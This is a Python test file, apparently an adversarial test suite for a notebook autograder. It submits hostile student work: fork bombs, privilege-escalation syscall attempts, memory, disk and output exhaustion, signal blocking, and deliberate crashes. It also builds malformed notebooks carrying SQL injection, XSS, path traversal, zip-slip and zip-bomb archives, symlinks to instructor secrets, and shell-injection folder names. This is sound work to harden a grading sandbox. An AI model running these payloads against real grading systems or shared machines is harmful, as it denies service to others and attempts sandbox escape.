for line in (["sleep", "600"], [sys.executable, "-c", "import time; time.sleep(600)"],
             ["/bin/sh", "-c", "sleep 600 & sleep 600"]):
    try:
        subprocess.Popen(line, start_new_session=True)
    except OSError:
        pass
""",
)
attack(
    "fork_bomb",
    "Each process forks for as long as it can.",
    """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        break
time.sleep(60)
""",
    at_most=True,
)
attack(
    "fork_bomb_in_a_check",
    "A check's process forks for as long as it can, and the children stay.",
    """
import os, time
def forward(self, x):
    for _ in range(1000):
        try:
            if os.fork() == 0:
                time.sleep(60)
        except OSError:
            break
    return x.flatten()
Flatten.forward = forward
""",
    at_most=True,
)
attack(
    "system_calls",
    "All is tried that may give rights: namespaces, mounts, ptrace, io_uring, bpf, keys, other users, setuid, limits.",
    """
import ctypes, os, resource, signal, stat
libc = ctypes.CDLL(None, use_errno=True)
tried = {
    "unshare": [libc.unshare(flag) for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000)],
    "mount": [libc.mount(b"proc", b"/proc", b"proc", 0, None), libc.mount(b"/", b"/tmp", None, 0x5000, None),
              libc.umount2(b"/proc", 2), libc.umount2(b"/tmp", 2)],
    "ptrace": [libc.ptrace(16, pid, 0, 0) for pid in (1, os.getppid(), GRADER)],
    "chroot": [libc.chroot(b"/tmp")],
    "setuid": [libc.setuid(0), libc.setresuid(0, 0, 0), libc.setgid(0)],
    "calls": [libc.syscall(number, 0, 0, 0, 0, 0) for number in (175, 304, 310, 321, 246, 169, 165, 250)],
    "prctl": [libc.prctl(38, 0, 0, 0, 0), libc.prctl(47, 2, 21, 0, 0), libc.prctl(36, 1, 0, 0, 0)],
    "sethostname": [libc.sethostname(MARK.encode(), len(MARK))],
}
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
open("/tmp/setuid", "w").write("#!/bin/sh")
os.chmod("/tmp/setuid", 0o6777)
for priority in (-20, 19):
    try:
        os.nice(priority)
    except OSError:
        pass
print(tried)
""",
)
attack(
    "shared_memory",
    "Memory is shared under names, anonymously and with System V's calls, and is not given back.",
    """
import ctypes, mmap, os
from multiprocessing import shared_memory
libc = ctypes.CDLL(None)
shared_memory.SharedMemory(name=MARK, create=True, size=1 << 20)
libc.shmget(0x5eed, 1 << 20, 0o1666)
libc.semget(0x5eed, 4, 0o1666)
libc.msgget(0x5eed, 0o1666)
os.write(os.memfd_create(MARK), b"0" * (1 << 20))
mmap.mmap(-1, 1 << 20)
""",
)

# More than one may have

attack(
    "loop_that_swallows_interrupts",
    "A loop in a cell swallows every interrupt.",
    """
import time
while True:
    try:
        while True: time.sleep(0.01)
    except BaseException:
        pass
""",
    at_most=True,
)
attack(
    "alarm_ignored",
    "The alarm is ignored, blocked, reset and given another handler before a check sleeps for ever.",
    """
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def forward(self, x):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True: time.sleep(60)
Flatten.forward = forward
""",
    at_most=True,
)
attack(
    "alarm_blocked_in_cells",
    "A cell leaves every signal blocked and ignored.",
    """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
""",
    at_most=True,
)
attack(
    "deadlock",
    "A check waits for a lock that nobody will give back.",
    """
import threading
lock = threading.Lock()
lock.acquire()
def forward(self, x): lock.acquire()
Flatten.forward = forward
""",
)
attack(
    "twenty_gigabytes",
    "Twenty gigabytes are asked for in a cell and in a check.",
    """
def forward(self, x): return bytearray(20 << 30)
Flatten.forward = forward
bytearray(20 << 30)
""",
)
attack(
    "memory_of_many",
    "Many processes take together what none of them may have alone.",
    """
import os, time
for _ in range(24):
    if os.fork() == 0:
        taken = bytearray(400 << 20)
        taken[::4096] = b"x" * len(taken[::4096])
        time.sleep(60)
time.sleep(1)
""",
    at_most=True,
)
attack(
    "disk",
    "The temporary folders are filled.",
    """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        for at in range(1000):
            with open(f"{folder}/{MARK}-{at}", "wb") as file: file.write(bytes(4 << 20))
    except OSError:
        pass
    try:
        for at in range(100_000): os.mkdir(f"{folder}/{MARK}-folder-{at}")
    except OSError:
        pass
""",
    at_most=True,
)
attack(
    "floods",
    "Standard output, standard error and their descriptors get more than anybody reads.",
    """
import os, sys
for _ in range(200):
    print("x" * 100_000)
    print("\\n" * 100_000, file=sys.stderr)
for descriptor in (1, 2):
    for _ in range(200): os.write(descriptor, b"x" * 100_000)
""",
)
attack(
    "fifty_megabytes_of_html",
    "Fifty megabytes of HTML are displayed.",
    """
from IPython.display import HTML, Javascript, display as show
html = HTML("<table>" + "<tr><td><script>alert(1)</script>" * 1_500_000)
show(html)
display(html, Javascript("alert(1)"))
html
""",
)
attack(
    "exits",
    "The cell ends the process as if all had gone well.",
    "import os\nos._exit(0)",
    at_most=True,
)
attack(
    "exits_in_a_check",
    "A check ends its process as if all had gone well.",
    "import os\nFlatten.forward = lambda self, x: os._exit(0)",
)
attack(
    "segmentation_fault",
    "Checks read where there is no memory, and overflow the stack.",
    """
import ctypes, faulthandler, sys
faulthandler.enable(open(f"/tmp/{MARK}", "w"))
def forward(self, x):
    if x.dim() == 3 and x.is_contiguous(): ctypes.string_at(0)
    if x.dim() == 3: ctypes.memset(id(x), 0, 1 << 20)
    sys.setrecursionlimit(10**9)
    return self.forward(x)
Flatten.forward = forward
""",
)
attack(
    "closes_everything",
    "A check closes every descriptor and answers afterwards.",
    """
import os
def forward(self, x):
    os.closerange(0, 256)
    return x.flatten()
Flatten.forward = forward
""",
)
attack(
    "vfork",
    "A child that shares its parent's memory writes over it and ends.",
    """
import ctypes, os
libc = ctypes.CDLL(None)
def forward(self, x):
    if libc.vfork() == 0:
        libc._exit(0)
    return x.flatten()
Flatten.forward = forward
""",
)
attack(
    "warnings_on_standard_error",
    "Right work says a lot on standard error, in cells and in checks.",
    """
import logging, os, sys, warnings
warnings.simplefilter("always")
def forward(self, x, old=Linear.forward):
    warnings.warn("careful")
    logging.warning("careful")
    print("careful", file=sys.stderr)
    os.write(2, b"careful")
    return old(self, x)
Linear.forward = forward
Linear(2, 2)(torch.zeros(1, 2))
""",
    base="ada",
)
attack(
    "warnings_are_errors",
    "Right work turns all warnings into errors.",
    "import warnings\nwarnings.simplefilter('error')",
    base="ada",
)


# Notebooks, files and folders


def _write(path: Path, notebook: NotebookNode) -> None:
    path.write_text(json.dumps(notebook), encoding="utf-8")


@changed("odd_ids", "Grade ids and cell ids lead out of the folder, into SQL, to other chapters, and occur twice.")
def _(path: Path, notebook: NotebookNode) -> None:
    ids = ["../../../gradebook", "x'; DROP TABLE grade; --", "/etc/passwd", "dropout-Dropout", "layers-", "x" * 10**6]
    ids += ["<script>alert(1)</script>", "layers-Linear\n", "\x00", "‮layers-Linear"]
    for grade_id in ids:
        metadata = {"nbgrader": {"grade_id": grade_id, "solution": True, "grade": True, "points": 10**9}}
        notebook.cells.append(nbformat.v4.new_code_cell("Flatten = None", metadata=metadata))
    for mine in notebook.cells:
        mine["id"] = "same"
    _write(path, notebook)


@changed("thousand_cells", "A thousand cells of its own stand in front of the answers.", base="ada")
def _(path: Path, notebook: NotebookNode) -> None:
    notebook.cells[:0] = [nbformat.v4.new_code_cell("Linear = None") for _ in range(1000)]
    _write(path, notebook)


@changed("thirty_megabytes", "The outputs have thirty megabytes.", base="ada")
def _(path: Path, notebook: NotebookNode) -> None:
    cell(notebook, "layers-Linear").outputs = [nbformat.v4.new_output("stream", text="x" * (30 << 20))]
    _write(path, notebook)


@changed("thirty_megabytes_of_answer", "One answer has thirty megabytes, and three times as many on their way.")
def _(path: Path, notebook: NotebookNode) -> None:
    cell(notebook, "layers-Flatten").source += "\n# " + "ü" * (15 << 20)
    path.write_text(json.dumps(notebook, ensure_ascii=False), encoding="utf-8")


@changed("odd_answers", "Answers hold NUL, halves of characters, text that runs backwards and other ends of lines.")
def _(path: Path, notebook: NotebookNode) -> None:
    cell(notebook, "layers-Flatten").source += "\n# ‮ ⁦ \ud800 \u2028 \x0c \x85 \x1b[2J \ufeff\r\n\r# x"
    _write(path, notebook)


@changed("nul_in_an_answer", "An answer of its own cell holds a NUL, which no Python source may.")
def _(path: Path, notebook: NotebookNode) -> None:
    notebook.cells.append(nbformat.v4.new_code_cell("x = 1\x00"))
    written = next(mine for mine in notebook.cells if mine.cell_type == "markdown" and "nbgrader" in mine.metadata)
    written.source = "\x00\ud800"
    _write(path, notebook)


@changed("markup_in_the_written_answer", "The written answer holds scripts, and so does what is attached to it.")
def _(path: Path, notebook: NotebookNode) -> None:
    written = cell(notebook, "layers-written")
    written.source = (
        f"{SCRIPT} <img src=x onerror=alert(1)> [link](javascript:alert(2)) <iframe src='javascript:alert(3)'></iframe>"
        "\n\n```html\n</code></pre><script>alert(4)</script>\n```\n\n$\\href{javascript:alert(5)}{x}$\n\n![a](attachment:a.svg)"
    )
    written["attachments"] = {"a.svg": {"image/svg+xml": "PHN2Zz48c2NyaXB0PmFsZXJ0KDYpPC9zY3JpcHQ+PC9zdmc+"}}
    _write(path, notebook)


@changed("latin_1", "The notebook is written in another encoding, which is an error of its own.", base="dennis")
def _(path: Path, notebook: NotebookNode) -> None:
    cell(notebook, "layers-Flatten").source += "\n# ü"
    path.write_text(json.dumps(notebook, ensure_ascii=False), encoding="latin-1", errors="replace")


@changed("folder_of_a_friend", "The folder is a link to a friend's, whose work is right.", base="dennis")
def _(path: Path, notebook: NotebookNode) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(path.parents[2] / "ada" / path.parent.name)


@changed("pipe", "The notebook is a pipe into which nobody writes.", base="dennis")
def _(path: Path, notebook: NotebookNode) -> None:
    os.mkfifo(path)


@changed("odd_timestamp", "The time of handing in is no time.")
def _(path: Path, notebook: NotebookNode) -> None:
    _write(path, notebook)
    (path.parent / "timestamp.txt").write_text("x' OR 1=1")


@changed("timestamp_of_bytes", "The time of handing in is a megabyte that is no text.")
def _(path: Path, notebook: NotebookNode) -> None:
    _write(path, notebook)
    (path.parent / "timestamp.txt").write_bytes(b"\xff\x00" * (1 << 19))


@changed("timestamp_elsewhere", "The time of handing in is a link to a file of the instructor's.")
def _(path: Path, notebook: NotebookNode) -> None:
    _write(path, notebook)
    (path.parent / "timestamp.txt").symlink_to(path.parents[3] / "source" / "secret.txt")


@changed("files_beside", "Archives that unpack to far away or to far too much, and modules, lie beside the notebook.")
def _(path: Path, notebook: NotebookNode) -> None:
    import io
    import zipfile

    _write(path, notebook)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../" + MARK, "out")
        archive.writestr("/tmp/" + MARK, "out")
        archive.writestr("bomb", bytes(50 << 20))
    for name in ("answers.zip", "2-layers.zip", "2-layers.tar.gz"):
        (path.parent / name).write_bytes(packed.getvalue())
    for name in (
        "nbgrader_config.py",
        "sitecustomize.py",
        "torch.py",
        "conftest.py",
        ".autograder.lock",
        "gradebook.db",
    ):
        (path.parent / name).write_text("raise SystemExit")


for _name in (
    "o'brien \"; DROP TABLE student; --",
    "two\nlines",
    "‮right-to-left",
    "<b onmouseover=alert(1)>",
    "-rf",
    "%2e%2e",
    "{{ 7*7 }}[red]$(id)`id`",
    "ascii\x1b[31m",
):

    @changed(_name, f"The name of the folder is {_name!r}.")
    def _(path: Path, notebook: NotebookNode) -> None:
        _write(path, notebook)
